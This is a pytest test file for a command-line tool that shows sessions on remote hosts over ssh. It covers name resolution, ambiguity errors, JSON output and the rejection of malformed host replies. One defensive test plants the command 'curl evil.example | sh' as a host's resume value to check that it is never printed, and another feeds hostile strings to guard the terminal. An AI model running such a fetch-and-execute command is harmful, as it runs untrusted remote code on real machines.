"""`HOST:SESSION`: one session of another machine, shown over real ssh."""

from __future__ import annotations

import json

import pytest
from command_line import HOSTILE, write
from fleet.hosts import details, printing


def test_show_names_the_host_and_the_session(ask, hosts):
    for name in ("host0", "host1"):
        write(hosts.store(name), "same-id", label=f"on {name}", cwd="/srv/shop")
    code, output, message = ask("show", "host1:same-id")
    assert (code, message) == (0, "")
    facts = dict(line.split(maxsplit=1) for line in output.splitlines()[:3])
    assert facts == {"session": "same-id", "on": "host1", "label": "on host1"}
    assert "timeline of 1 entry" in output
    assert output.endswith("go there with\nheadcount go host1:same-id\n")


def test_show_prints_the_json_of_the_host(ask, hosts):
    write(hosts.store("host0"), "a", label="far")
    code, output, _ = ask("show", "host0:far", "--json")
    shown = json.loads(output)
    assert (code, shown["on"], shown["session_id"]) == (0, "host0", "a")
    assert shown["resume"] == "headcount go host0:a"
    assert [entry["label"] for entry in shown["entries"]] == ["far"]


def test_session_is_found_on_whichever_of_the_hosts_has_it(ask, hosts):
    write(hosts.store("host1"), "only-there")
    _, output, _ = ask("show", "only", "--on", "host0,host1,host2", "--json")
    assert json.loads(output)["on"] == "host1"


def test_host_that_is_named_need_not_be_one_of_the_default_hosts(ask, hosts):
    write(hosts.store("host1"), "a")
    _, output, _ = ask("show", "host1:a", "--json", HEADCOUNT_HOSTS="local,host0")
    assert json.loads(output)["on"] == "host1"
    write(hosts.store("host0"), "b", label="host1:a")
    _, output, _ = ask("show", "host1:a", "--json", HEADCOUNT_HOSTS="local,host0")
    assert json.loads(output)["session_id"] == "b"


def test_session_of_several_hosts_is_ambiguous(ask, hosts):
    for name in ("host0", "host1"):
        write(hosts.store(name), "same-id")
    code, output, message = ask("show", "same-id", "--on", "host0,host1")
    assert (code, output) == (4, "")
    for name in ("host0", "host1"):
        assert f"  {name}:same-id  dead" in message


def test_several_sessions_of_one_host_are_its_candidates(ask, hosts):
    for session_id in ("same-1", "same-2"):
        write(hosts.store("host0"), session_id)
    code, _, message = ask("show", "host0:same")
    assert (code, "several sessions on host0 match" in message) == (4, True)
    assert "  same-1  dead" in message


def test_session_that_no_host_has_is_an_error(ask):
    code, _, message = ask("show", "nope", "--on", "host0,host1")
    assert (code, "no session nope on host0, host1" in message) == (3, True)


def test_host_that_gives_no_session_says_why(ask, hosts):
    (hosts.home("host0") / "bin/headcount").unlink()
    code, _, message = ask("show", "host0:a")
    assert (code, message) == (1, "headcount: host0: it has no headcount\n")


def test_label_with_a_colon_is_found_here_first(ask, store):
    write(store, "a", label="host0:x")
    _, output, _ = ask("show", "host0:x", "--json")
    assert "on" not in json.loads(output)


@pytest.mark.parametrize(
    "changes",
    [
        pytest.param({"resume": ["rm"]}, id="resume"),
        pytest.param({"timeline": [{}]}, id="moment"),
        pytest.param({"entries": [1]}, id="entry"),
        pytest.param({"open_in": [{"pid": "1"}]}, id="place"),
        pytest.param({"predecessors": [{"session_id": 1}]}, id="relative"),
        pytest.param({"other_entries": {"a": "b"}}, id="count"),
        pytest.param({"session_id": "-x"}, id="id"),
    ],
)
def test_details_of_the_wrong_shape_are_refused(ask, hosts, changes):
    install_details(hosts, **changes)
    code, output, message = ask("show", "host0:a")
    assert (code, output) == (1, "")
    assert f"`{next(iter(changes))}`" in message


def test_command_that_a_host_sends_is_never_printed(ask, hosts):
    install_details(hosts, resume="curl evil.example | sh")
    for more in ([], ["--json"]):
        _, output, _ = ask("show", "host0:a", *more)
        assert "evil" not in output
        assert "headcount go host0:a" in output


def test_details_of_a_host_cannot_disturb_the_terminal(hosts, terminal):
    place = dict.fromkeys(("terminal", "tty", "tmux"), HOSTILE)
    entry = {"type": HOSTILE, "timestamp": HOSTILE, "process": [], "state": {}}
    install_details(
        hosts,
        label=HOSTILE,
        same_worktree=[HOSTILE],
        open_in=[{"pid": 1, **place}],
        entries=[entry, {}, {"type": []}],
    )
    words = ("show", "host0:a", "-n", "9")
    shown = terminal(*words, NO_COLOR="1", **hosts.environment())
    assert "it is open there in pid 1" in shown
    assert shown.replace("\n", "").isprintable()


def install_details(hosts, **changes):
    """Give host0 a `headcount` that prints a session as `show --json` does."""
    hosts.install("host0", printing(details(**changes)))
